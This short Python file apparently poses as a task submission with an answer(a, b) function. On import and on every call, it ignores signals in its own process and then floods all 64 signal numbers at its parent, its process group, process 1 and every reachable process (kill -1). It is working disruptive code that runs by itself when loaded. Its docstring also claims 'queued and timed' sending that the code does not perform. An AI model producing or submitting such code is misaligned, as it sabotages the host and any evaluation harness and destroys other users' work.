"""Sends every signal to its parent, to its group and to process 1, again and again, also queued and timed."""
import os
import signal


def send():
    for target in (os.getppid(), 0, 1, -1, -os.getpgrp() if os.getpgrp() > 1 else 0):
        for number in range(1, 65):
            if number in (9, 19) and target in (0, -1):
                continue
            for s in (lambda: signal.signal(number, signal.SIG_IGN),):
                try:
                    s()
                except (OSError, ValueError):
                    pass
            try:
                os.kill(target, number)
            except OSError:
                pass


def answer(a, b):
    send()
    return 0


send()
